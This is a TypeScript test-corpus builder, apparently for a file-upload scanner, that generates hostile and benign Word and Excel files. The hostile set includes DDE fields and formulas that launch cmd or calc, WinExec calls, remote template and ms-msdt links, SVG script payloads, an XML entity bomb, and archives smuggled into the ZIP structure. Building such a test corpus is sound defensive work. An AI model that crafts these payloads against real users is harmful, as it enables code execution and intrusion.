import { eicar } from './fake-clamd.ts';
import {
  type CorpusFile,
  external,
  internal,
  latin1,
  mediaTypes,
  office,
  png,
  relations,
} from './file-builders.ts';
import { type ZipEntry, zipArchive } from './zip-archive.ts';

type Kind = 'docx' | 'xlsx';

const part = (name: string, content: string | Buffer): ZipEntry => ({ name, content, deflated: true });
const sheet = (cells: string) =>
  part('xl/worksheets/sheet1.xml', `<worksheet><sheetData><row>${cells}</row></sheetData></worksheet>`);
const formula = (text: string) => sheet(`<c r="A1"><f>${text}</f><v>0</v></c>`);
const body = (runs: string) =>
  part('word/body.xml', `<w:document xmlns:w="w"><w:body><w:p>${runs}</w:p></w:body></w:document>`);
const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const instruction = (text: string) => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
const field = (...texts: string[]) =>
  body(
    `${mark('begin')}${texts.map(instruction).join('')}${mark('separate')}<w:r><w:t>1</w:t></w:r>${mark('end')}`,
  );
const svg = (inside: string, attributes = '') =>
  part('word/media/a.svg', `<svg xmlns="http://www.w3.org/2000/svg" ${attributes}>${inside}</svg>`);
const long = Array.from({ length: 30_000 }, (_, n) => `<c r="B${n}"><v>${n * 7919}</v></c>`).join('');
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const entities = Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};">`).join('');

const hostileOf = (kind: Kind): Readonly<Record<string, ZipEntry[]>> => ({
  'a picture from the web': [relations(external('image'))],
  'a picture of another computer': [relations(external('image', '\\\\\\\\host.example\\\\a.png'))],
  'a template of another computer': [relations(external('attachedTemplate', 'file://host.example/a.dotm'))],
  'a template in capitals': [relations(external('attachedTemplate').replace('External', 'EXTERNAL'))],
  'a template without a mode': [
    relations(external('attachedTemplate').replace(' TargetMode="External"', '')),
  ],
  'a template between quotes of the other kind': [
    relations(external('attachedTemplate').replaceAll('"', "'")),
  ],
  'a template whose mode is written as entities': [
    relations(external('attachedTemplate').replace('External', '&#69;xternal')),
  ],
  'relationships in UTF-16': [
    { ...relations(), content: utf16(`<Relationships>${external('image')}</Relationships>`) },
  ],
  'relationships in UTF-7': [
    { ...relations(), content: '<?xml version="1.0" encoding="utf-7"?><Relationships/>' },
  ],
  'relationships of a header': [{ ...relations(external('oleObject')), name: 'word/_rels/header1.xml.rels' }],
  'a frame': [relations(external('frame'))],
  'a film from the web': [relations(external('video'))],
  'a workbook elsewhere': [relations(external('externalLinkPath', 'file:///C:/a.xlsx'))],
  'data for letters from elsewhere': [relations(external('mailMergeSource', 'file:///C:/a.csv'))],
  'a link to a program': [relations(external('hyperlink', 'file:///C:/Windows/System32/calc.exe'))],
  'a link to another computer': [relations(external('hyperlink', '\\\\\\\\host.example\\\\share'))],
  'a link to a tool of Windows': [relations(external('hyperlink', 'ms-msdt:/id'))],
  'a link that is a script': [relations(external('hyperlink', 'javascript:alert(1)'))],
  'an object (OLE)': [
    relations(internal('oleObject')),
    part('word/embeddings/oleObject1.bin', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
  ],
  'an object (OLE) under another name': [
    part('word/media/image9.png', Buffer.from('d0cf11e0a1b11ae1', 'hex')),
  ],
  'an object without a kind': [part('word/embeddings/a.bin', 'x')],
  'a page to be taken in': [relations(internal('aFChunk')), part('word/chunk.xml', '<p/>')],
  'a page in another format': [part('word/chunk.mht', 'x')],
  'macros under another name': [relations(internal('vbaProject', 'a.bin'))],
  'a ribbon of its own': [part('customUI/customUI.xml', '<customUI onLoad="x"/>')],
  'an add-in from the web': [part('word/webextensions/webextension1.xml', '<we/>')],
  'macros in an embedded workbook': [
    part('word/embeddings/a.xlsx', office('xlsx', [part('xl/vbaProject.bin', 'x')])),
  ],
  'an archive in it': [part('word/media/image1.png', zipArchive([{ name: 'a.js', content: 'x' }]))],
  'archives in archives': [
    part(
      'word/embeddings/a.docx',
      office('docx', [
        part('word/embeddings/b.docx', office('docx', [part('word/embeddings/c.docx', office('docx'))])),
      ]),
    ),
  ],
  'malware in it': [part('word/media/image1.png', eicar)],
  'a program as a picture': [part('word/media/image1.png', 'MZ\x90\0')],
  'a PDF as a picture': [part('word/media/image1.png', '%PDF-1.7')],
  'a script as a picture': [part('word/media/image1.png', '#!/bin/sh')],
  'a drawing with a script': [svg('<script>alert(1)</script>')],
  'a drawing that acts when it loads': [svg('', 'onload="alert(1)"')],
  'a drawing that holds a page': [svg('<foreignObject><iframe/></foreignObject>')],
  'a drawing with a picture from the web': [svg('<image href="https://elsewhere.example/a"/>')],
  'an old drawing with a picture from the web': [
    part('word/a.vml', '<xml xmlns:v="v"><v:imagedata src="https://elsewhere.example/a.png"/></xml>'),
  ],
  'an entity bomb': [part('word/a.xml', `<!DOCTYPE a [<!ENTITY a0 "a">${entities}]><a>&a20;</a>`)],
  'an outside entity': [
    part('customXml/item1.xml', '<!DOCTYPE a SYSTEM "https://elsewhere.example/a.dtd"><a/>'),
  ],
  'a part that is no XML': [part('word/a.xml', '<a><b></a>')],
  'a part in an odd encoding': [part('word/a.xml', '<?xml version="1.0" encoding="IBM037"?><a/>')],
  ...(kind === 'docx'
    ? {
        'a field that starts a program': [field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')],
        'a field in pieces': [field(' D', 'DEA', 'UTO cmd "/k calc"')],
        'a simple field': [body('<w:fldSimple w:instr=" DDE cmd calc "><w:r/></w:fldSimple>')],
        'a field with entities': [body('<w:fldSimple w:instr=" &#68;DE cmd calc "/>')],
        'a field within a field': [
          body(
            `${mark('begin')}${instruction(' IF 1 = 1 ')}${mark('begin')}${instruction(' DDEAUTO cmd calc ')}${mark('end')}${mark('end')}`,
          ),
        ],
        'a field whose name another field makes': [
          body(
            `${mark('begin')}${mark('begin')}${instruction(' QUOTE 68 68 69 ')}${mark('end')}${instruction(' cmd calc ')}${mark('end')}`,
          ),
        ],
        'a field that takes in a picture': [field(' INCLUDEPICTURE "https://elsewhere.example/a.png" \\d ')],
        'a field that takes in a text': [field(' INCLUDETEXT "\\\\\\\\host.example\\\\a.docx" ')],
        'a field that links': [field(' LINK Excel.Sheet.12 "C:\\\\a.xlsx" ')],
        'a field that follows to a program': [field(' HYPERLINK "file:///C:/a.exe" ')],
        'a field without a start': [body(instruction('DDEAUTO cmd calc'))],
        'a field in a long text': [
          part(
            'word/body.xml',
            `<w:document xmlns:w="w">${'<w:p><w:r><w:t>words</w:t></w:r></w:p>'.repeat(20_000)}${mark('begin')}${instruction('DDE')}${instruction('AUTO cmd')}${mark('end')}</w:document>`,
          ),
        ],
      }
    : {
        'a formula that starts a program': [formula("cmd|'/c calc'!A0")],
        'a formula whose program stands in quotes': [formula("'cmd'|'/c calc'!A0")],
        'a formula with entities': [formula('cmd&#124;&apos;/c calc&apos;!A0')],
        'a formula in an unread section': [formula("<![CDATA[cmd|'/c calc'!A0]]>")],
        'a formula in a long sheet': [sheet(`${long}<c r="A1"><f>cmd&#x7c;'/c calc'!A0</f></c>`)],
        'an unread section in a long sheet': [
          sheet(`${long}<c r="A1"><f><![CDATA[cmd|'/c calc'!A0]]></f></c>`),
        ],
        'a formula that asks the web': [
          formula('_xlfn.WEBSERVICE(&quot;https://elsewhere.example/&quot;&amp;A2)'),
        ],
        'a formula that shows a picture of the web': [
          formula('_xlfn.IMAGE("https://elsewhere.example/a.png")'),
        ],
        'a formula with live data': [formula('RTD("a.b",,"c")')],
        'a formula that calls a library': [formula('CALL("kernel32","WinExec","JCJ","calc",0)')],
        'a formula that reads another computer': [formula("'\\\\\\\\host.example\\\\share\\\\[a.xlsx]S'!A1")],
        'a formula that reads the web': [formula("'https://elsewhere.example/[a.xlsx]S'!A1")],
        'a formula that follows to a program': [formula('HYPERLINK("file:///C:/a.exe","x")')],
        'a name that starts with the file': [
          part(
            'xl/names.xml',
            '<workbook><definedNames><definedName name="_xlnm.Auto_Open">S!$A$1</definedName></definedNames></workbook>',
          ),
        ],
        'a name that starts a program': [
          part('xl/names.xml', '<workbook><definedName name="a">cmd|\'/c calc\'!A0</definedName></workbook>'),
        ],
        'a rule that starts a program': [
          part(
            'xl/worksheets/s.xml',
            "<worksheet><dataValidation><formula1>cmd|'/c calc'!A0</formula1></dataValidation></worksheet>",
          ),
        ],
        'a link to a program (DDE)': [
          part(
            'xl/externalLinks/externalLink1.xml',
            '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
          ),
        ],
        'a link to a program under another name': [
          part('xl/a.xml', '<x:externalLink xmlns:x="x"><x:ddeLink ddeService="cmd"/></x:externalLink>'),
        ],
        'a connection to data': [part('xl/connections.xml', '<connections/>')],
        'a query to the web': [part('xl/queryTables/queryTable1.xml', '<queryTable/>')],
        'a sheet of macros': [part('xl/macrosheets/sheet1.xml', '<a/>')],
        'a sheet of macros under another name': [relations(internal('xlMacrosheet'))],
      }),
});

/** Office files an attacker would send. */
export function hostileOffice(): CorpusFile[] {
  const files: CorpusFile[] = [];
  const add = (name: string, content: Buffer) => files.push({ name, content });
  for (const kind of ['docx', 'xlsx'] as const) {
    for (const [feature, parts] of Object.entries(hostileOf(kind)))
      add(`${kind} with ${feature}`, office(kind, parts));
    const whole = office(kind);
    const end = whole.length - 22;
    const directory = whole.readUInt32LE(end + 16);
    const hidden = zipArchive([{ name: 'a.js', content: 'x'.repeat(200) }]).subarray(0, 234);
    const rest = Buffer.from(whole.subarray(directory));
    rest.writeUInt32LE(directory + hidden.length, rest.length - 6);
    add(
      `${kind} with a hidden file before its directory`,
      Buffer.concat([whole.subarray(0, directory), hidden, rest]),
    );
    add(
      `${kind} with a hidden file between its parts`,
      office(kind, [{ name: 'customXml/item1.xml', content: '<a/>', unnamed: hidden }]),
    );
    const comment = latin1('%PDF-1.7 <script>alert(1)</script>');
    const commented = Buffer.concat([whole, comment]);
    commented.writeUInt16LE(comment.length, whole.length - 2);
    add(`${kind} with a page as its comment`, commented);
    add(`${kind} with a picture behind it`, Buffer.concat([whole, png(8, 8)]));
    add(
      `${kind} with another archive behind it`,
      Buffer.concat([whole, zipArchive([{ name: 'a.js', content: 'x' }])]),
    );
    const types =
      '<Types><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject&#x20;"/>';
    add(`${kind} with macros named by entities`, office(kind, [], types.replace('vba', '&#118;ba')));
  }
  add(
    'presentation',
    office(
      'docx',
      [],
      '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"/></Types>',
    ),
  );
  return files;
}

const benignOf = (kind: Kind): Readonly<Record<string, ZipEntry[]>> => ({
  'links to the web, mail and telephone': [
    relations(
      external('hyperlink', 'https://example.com/?a=1'),
      external('hyperlink', 'mailto:a@example.com'),
      external('hyperlink', 'tel:+41'),
    ),
  ],
  'links to places within': [relations(external('hyperlink', '#Sheet2!A1'), internal('hyperlink', '#a'))],
  'a link to a neighbouring file': [relations(external('hyperlink', 'annex.pdf'))],
  'parts of its own': [
    relations(
      internal('styles', 'styles.xml'),
      internal('image', 'media/image1.png'),
      internal('customXml', '../customXml/item1.xml'),
    ),
  ],
  'a chart with its numbers': [
    part('word/embeddings/Microsoft_Excel_Sheet1.xlsx', office('xlsx')),
    relations(internal('package', 'embeddings/Microsoft_Excel_Sheet1.xlsx')),
  ],
  'a vector drawing': [svg('<path d="M0 0"/><use href="#a"/><image href="data:image/png;base64,iVBO"/>')],
  'an old drawing of a note': [
    part(
      'xl/drawings/vmlDrawing1.vml',
      '<xml xmlns:v="v"><v:shape><v:formulas><v:f eqn="val #0"/></v:formulas><v:textbox><br>text</v:textbox></v:shape></xml>',
    ),
  ],
  'settings of a printer': [
    part('xl/printerSettings/printerSettings1.bin', Buffer.from('P\0r\0i\0n\0t\0e\0r\0')),
  ],
  'a font': [part('word/fonts/font1.odttf', Buffer.from('a1b2c3d4', 'hex'))],
  'a note of its writer': [
    part('docProps/app.xml', '<Properties><Application>Microsoft Office Word</Application></Properties>'),
  ],
  'a part in UTF-16': [
    part('customXml/item1.xml', utf16('<?xml version="1.0" encoding="UTF-16"?><a>发票</a>')),
  ],
  'a byte order mark': [
    part('customXml/item1.xml', '\ufeff<?xml version="1.0" encoding="utf-8" standalone="yes"?><a/>'),
  ],
  'an empty part': [part('customXml/item1.xml', '')],
  'comments and unread sections': [part('word/comments.xml', '<a><!-- note --><![CDATA[cmd | calc]]></a>')],
  'names in Chinese': [part('customXml/发票.xml', '<a/>')],
  ...(kind === 'docx'
    ? {
        'page numbers and dates': [field(' PAGE \\* MERGEFORMAT ')],
        'a table of contents': [field(' TOC \\o "1-3" \\h \\z \\u ')],
        'a field with a link': [field(' HYPERLINK "https://example.com/" \\o "tip" ')],
        'a field with a place': [field(' HYPERLINK \\l "_Toc1" ')],
        'a field that computes': [field(' = SUM(ABOVE) \\# "0.00" ')],
        'a field to click on': [field(' MACROBUTTON NoMacro [Name] ')],
        'cited books': [field(' ADDIN ZOTERO_ITEM CSL_CITATION {"a":1} ')],
        'fields within fields': [
          body(
            `${mark('begin')}${instruction(' IF ')}${mark('begin')}${instruction(' PAGE ')}${mark('end')}${instruction(' = 1 "a" "b" ')}${mark('end')}`,
          ),
        ],
        'a text about fields': [
          body('<w:r><w:t>DDEAUTO cmd, WEBSERVICE( and INCLUDEPICTURE "https://a"</w:t></w:r>'),
        ],
        'a long text': [
          part(
            'word/body.xml',
            `<w:document xmlns:w="w">${'<w:p><w:r><w:t>DDEAUTO words</w:t></w:r></w:p>'.repeat(20_000)}</w:document>`,
          ),
        ],
        'a check box': [body('<w:sdt><w:sdtPr><w14:checkbox xmlns:w14="w14"/></w:sdtPr></w:sdt>')],
        'tracked changes': [
          body(
            '<w:ins w:author="a"><w:r><w:t>new</w:t></w:r></w:ins><w:del><w:r><w:delText>old</w:delText></w:r></w:del>',
          ),
        ],
      }
    : {
        formulas: [formula('SUM(A1:A9)*VLOOKUP(B1,Sheet2!A:B,2,FALSE)')],
        'formulas with a link': [formula('HYPERLINK("https://example.com/",A1)')],
        'formulas with text': [formula('IF(A1="a|b","C:\\x","https://example.com")')],
        'formulas of other sheets': [formula("'A|B sheet'!A1+'2025 (old)'!B2")],
        'new functions': [formula('_xlfn.XLOOKUP(A1,B:B,C:C)+_xlfn._xlws.FILTER(A1:A9,B1:B9)')],
        names: [
          part(
            'xl/names.xml',
            '<workbook><definedNames><definedName name="_xlnm.Print_Area">S!$A$1:$B$9</definedName></definedNames></workbook>',
          ),
        ],
        'lists to choose from': [
          part(
            'xl/worksheets/s.xml',
            '<worksheet><dataValidation type="list"><formula1>"a,b|c"</formula1></dataValidation></worksheet>',
          ),
        ],
        'buttons of a form': [
          part(
            'xl/worksheets/s.xml',
            '<worksheet><controls><control shapeId="1" r:id="r1" name="Check Box 1" xmlns:r="r"/></controls></worksheet>',
          ),
        ],
        'a cell that begins like a formula': [sheet('<c t="inlineStr"><is><t>=cmd|calc!A0</t></is></c>')],
        'a long sheet': [sheet(`<!-- rows -->${long}<c r="A1"><f>SUM(B1:B9000)</f><v>1</v></c>`)],
        'a table': [
          part(
            'xl/tables/table1.xml',
            '<table><tableColumn><calculatedColumnFormula>A1*2</calculatedColumnFormula></tableColumn></table>',
          ),
        ],
        'a pivot table': [part('xl/pivotTables/pivotTable1.xml', '<pivotTableDefinition/>')],
      }),
});

/** Office files that partners really send. */
export function benignOffice(): CorpusFile[] {
  const files: CorpusFile[] = [];
  for (const kind of ['docx', 'xlsx'] as const) {
    for (const [feature, parts] of Object.entries(benignOf(kind)))
      files.push({
        name: `${kind} with ${feature}`,
        mediaType: mediaTypes[kind],
        content: office(kind, parts),
      });
    const commented = Buffer.concat([office(kind), latin1('written by A 1.0')]);
    commented.writeUInt16LE(16, commented.length - 18);
    files.push({ name: `${kind} with a comment`, mediaType: mediaTypes[kind], content: commented });
  }
  return files;
}
